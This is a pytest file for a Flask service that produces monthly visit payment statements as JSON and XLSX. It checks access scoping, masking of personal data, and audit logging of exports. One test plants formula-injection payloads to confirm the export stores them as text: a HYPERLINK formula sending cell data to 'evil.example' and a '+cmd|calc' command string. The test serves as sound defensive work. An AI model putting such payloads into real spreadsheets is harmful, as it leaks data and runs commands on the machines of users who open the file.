"""Statements for payment over HTTP: JSON and XLSX, masked and formula-safe, the download audited; who may."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import date

from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select, update

from tests.api.conftest import Headers
from tests.factories import District, make_flag, make_record
from tests.partner_factories import (
    make_contract,
    make_coordinator,
    make_organisation,
    make_pairing,
    make_visitor,
)
from visitsvc.access.scoping import Scope
from visitsvc.infrastructure.uow import UnitOfWork
from visitsvc.model import AuditEntry, Elder, FlagKind, Organisation, Worker

Login = Callable[[str], Headers]
URL = "/api/v1/organisations/{}/statements/2026-11"


def a_station(uow: UnitOfWork, d: District) -> tuple[int, list[int]]:
    """Street A's station, its coordinator `coord`, a social worker with two visits of paired A1 (one
    flagged too far, not yet decided) and one of unpaired A2; the other street's `coord_b`."""
    street = d.codes["street_a"]
    organisation = make_organisation(uow, area_codes=(street,))
    contract = make_contract(
        uow, organisation, area_code=street, first_day=date(2026, 11, 1), last_day=date(2026, 11, 30), quota=5
    )
    visitor = make_visitor(uow, "sw1", organisation_id=organisation, area_code=street)
    make_coordinator(uow, "coord", organisation_id=organisation, area_code=street)
    other = make_organisation(uow, "古荡志愿者协会", area_codes=(d.codes["street_b"],))
    make_coordinator(uow, "coord_b", organisation_id=other, area_code=d.codes["street_b"])
    make_pairing(
        uow, d.elders["elder_a1"], visitor_id=visitor, contract_id=contract, first_day=date(2026, 11, 1)
    )
    paid = make_record(uow, elder_id=d.elders["elder_a1"], worker_id=visitor, day=date(2026, 11, 3))
    doubtful = make_record(uow, elder_id=d.elders["elder_a1"], worker_id=visitor, day=date(2026, 11, 4))
    make_flag(uow, doubtful, FlagKind.TOO_FAR, distance_m=850.0)
    unpaired = make_record(uow, elder_id=d.elders["elder_a2"], worker_id=visitor, day=date(2026, 11, 5))
    return organisation, [paid, doubtful, unpaired]


def test_the_statement_pays_the_proven_visit_and_names_why_the_others_are_not(
    client: FlaskClient, district: District, login: Login, uow: UnitOfWork
) -> None:
    organisation, (paid, doubtful, unpaired) = a_station(uow, district)

    answer = client.get(URL.format(organisation), headers=login("sup_a"))

    assert answer.status_code == 200, answer.json
    body = answer.json
    assert (body["recorded"], body["amount"], body["delivered_by_kind"]) == (3, "50.00", {"home": 1})
    assert [line["visit_id"] for line in body["delivered"]] == [paid]
    assert {line["visit_id"]: [r["code"] for r in line["reasons"]] for line in body["excluded"]} == {
        doubtful: ["too_far_open"],
        unpaired: ["not_paired"],
    }
    assert body["excluded"][0]["flags"] == [{"kind": "too_far", "state": "open"}]
    assert body["contracts"][0]["by_kind"] == [
        {"kind": "home", "count": 1, "unit_price": "50.00", "amount": "50.00"}
    ]
    assert answer.headers["Cache-Control"] == "no-store"


def test_the_own_coordinator_reads_it_another_organisations_gets_404(
    client: FlaskClient, district: District, login: Login, uow: UnitOfWork
) -> None:
    organisation, _ = a_station(uow, district)
    assert client.get(URL.format(organisation), headers=login("coord")).status_code == 200
    assert client.get(URL.format(organisation), headers=login("coord_b")).status_code == 404
    assert client.get(URL.format(organisation), headers=login("sup_b")).status_code == 404
    assert client.get(URL.format(organisation), headers=login("w_a1")).status_code == 403
    assert client.get(URL.format(organisation) + ".xlsx", headers=login("coord_b")).status_code == 404
    assert client.get(URL.format(999_999), headers=login("admin")).status_code == 404
    bad_month = client.get(f"/api/v1/organisations/{organisation}/statements/2026-13", headers=login("admin"))
    assert (bad_month.status_code, list(bad_month.json["errors"])) == (422, ["month"])


def test_the_xlsx_is_masked_formula_safe_and_its_download_audited(
    client: FlaskClient, district: District, login: Login, uow: UnitOfWork
) -> None:
    organisation, _ = a_station(uow, district)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    with uow:
        uow.session.execute(update(Worker).where(Worker.account == "sw1").values(name=hostile))
        uow.session.execute(
            update(Organisation).where(Organisation.id == organisation).values(name="+cmd|calc")
        )
        elder = uow.session.get_one(Elder, district.elders["elder_a1"])
        full_name, id_number = elder.name, elder.id_number
        uow.commit()

    for url in (URL.format(organisation) + ".xlsx", URL.format(organisation) + "?format=xlsx"):
        answer = client.get(url, headers=login("sup_a"))
        assert answer.status_code == 200
        assert answer.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        assert answer.headers["Cache-Control"] == "no-store"
        assert f"statement-{organisation}-2026-11.xlsx" in answer.headers["Content-Disposition"]
        book = load_workbook(io.BytesIO(answer.data))
        assert book.sheetnames == ["汇总", "计费探访", "未计费探访"]
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        texts = [str(c.value) for c in cells if c.value is not None]
        assert hostile in texts  # kept as text ...
        assert "+cmd|calc" in texts
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # ... never a formula
        assert full_name not in texts
        assert full_name[0] + "*" * (len(full_name) - 1) in texts
        assert not any(id_number in t or id_number[-6:] in t for t in texts)
        reasons = [row[-1].value for row in book["未计费探访"].iter_rows(min_row=2)]
        assert reasons == ["距离住址过远，尚未核实", "合同外：未在合同下结对"]

    with uow:
        entries = list(uow.session.scalars(select(AuditEntry).where(AuditEntry.action == "statement.export")))
    assert len(entries) == 2
    assert (entries[0].record_type, entries[0].record_id) == ("organisation", str(organisation))
    assert entries[0].details["month"] == "2026-11"
    with uow:
        street_a = uow.areas.get_by_code(Scope.everything(), district.codes["street_a"]).path
    assert entries[0].area_path == street_a  # a supervisor of street A reads it in the audit log


def test_reading_the_json_is_not_an_export(
    client: FlaskClient, district: District, login: Login, uow: UnitOfWork
) -> None:
    organisation, _ = a_station(uow, district)
    client.get(URL.format(organisation), headers=login("sup_a"))
    with uow:
        assert not list(
            uow.session.scalars(select(AuditEntry).where(AuditEntry.action == "statement.export"))
        )
